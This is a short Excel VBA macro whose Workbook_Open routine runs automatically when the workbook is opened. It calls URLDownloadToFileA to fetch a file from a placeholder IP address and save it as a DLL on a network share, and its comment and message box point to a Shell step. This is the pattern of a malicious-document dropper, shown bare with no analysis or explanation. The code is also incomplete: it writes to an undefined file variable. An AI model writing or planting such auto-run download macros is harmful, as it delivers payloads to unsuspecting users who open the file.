Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" _
  (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Sub Workbook_Open()
  URLDownloadToFileA 0, "http://192.0.2.1/x", "\\srv\share\y.dll", 0, 0 ' Shell
  Open f For Output As #1: Print #1, "x": Close #1
  MsgBox "use Shell"
End Sub
